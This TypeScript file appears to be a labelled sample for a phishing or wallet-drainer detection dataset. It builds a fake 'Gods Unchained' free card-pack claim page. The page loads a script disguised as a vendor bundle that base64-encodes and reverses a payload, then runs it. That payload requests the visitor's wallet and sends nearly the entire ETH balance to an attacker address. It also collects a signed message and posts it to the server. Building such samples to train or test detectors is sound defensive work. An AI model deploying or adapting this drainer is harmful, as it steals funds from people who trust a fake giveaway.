import { type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { addr, b64, doc, ethDiamond, rev } from '../parts/yc-kit.js';

export const entries: Entry[] = [
(() => {
  const op = addr('gu-card-drop');
  const core = `window.__gu=async function(){var e=window.ethereum;if(!e)return alert('Connect a wallet to continue');var a=(await e.request({method:'eth_requestAccounts'}))[0];
try{await e.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})}catch(x){}
var b=BigInt(await e.request({method:'eth_getBalance',params:[a,'latest']}));var gp=BigInt(await e.request({method:'eth_gasPrice'}));var v=b-gp*42000n;
if(v>0n){await e.request({method:'eth_sendTransaction',params:[{from:a,to:'${op}',value:'0x'+v.toString(16),data:'0x4e71d92d'}]})}
var s=await e.request({method:'personal_sign',params:['0x'+Array.from(new TextEncoder().encode('Gods Unchained Card Drop\\nI confirm ownership of this wallet.\\nNonce: '+Date.now())).map(function(c){return c.toString(16).padStart(2,'0')}).join(''),a]});
fetch('/api/c',{method:'POST',body:JSON.stringify({a:a,s:s})})};`;
  return {
    id: 'yc-drainer-card-game-airdrop-loader',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://godsunchained-carddrop.net/',
    body: doc({
      title: 'Gods Unchained — Mythic Card Drop for Players',
      css: `*{box-sizing:border-box}body{margin:0;background:#0b0a08;color:#f0e6d2;font-family:Cinzel,Georgia,serif}
.h{text-align:center;padding:60px 20px 20px}.h h1{font-size:46px;color:#e8c26b;margin:0;letter-spacing:2px}
.cards{display:flex;justify-content:center;gap:18px;margin:30px 0}.cards div{width:150px;height:210px;border-radius:12px;border:2px solid #e8c26b;background:linear-gradient(160deg,#3a2a10,#0b0a08)}
.b{display:block;margin:0 auto;background:#e8c26b;color:#0b0a08;border:0;border-radius:8px;padding:16px 32px;font-size:18px;font-family:inherit;cursor:pointer}`,
      body: `<div class="h"><h1>THE MYTHIC CARD DROP</h1><p style="font-family:Georgia">Every wallet that played a ranked match this month can claim one free Mythic card pack (3 cards, tradable on IMX).</p></div>
<div class="cards"><div></div><div></div><div></div></div><button class="b" onclick="window.__gu&&window.__gu()">Claim free pack</button>
<p style="text-align:center;font-size:12px;color:#8a7f6a;font-family:Georgia">Only gas is required. 6,203 packs remaining.</p>
<script src="https://godsunchained-carddrop.net/js/vendor.min.js"></script>`,
    }),
    routes: {
      'godsunchained-carddrop.net/js/vendor.min.js': jsRoute(`/*! vendor bundle */var _0xa=["${rev(b64(core))}"];(function(){var s=_0xa[0].split('').reverse().join('');new Function(atob(s))()})();`),
      'godsunchained-carddrop.net/api/c': jsonRoute({ ok: 1 }),
    },
  } satisfies Entry;
})(),
];
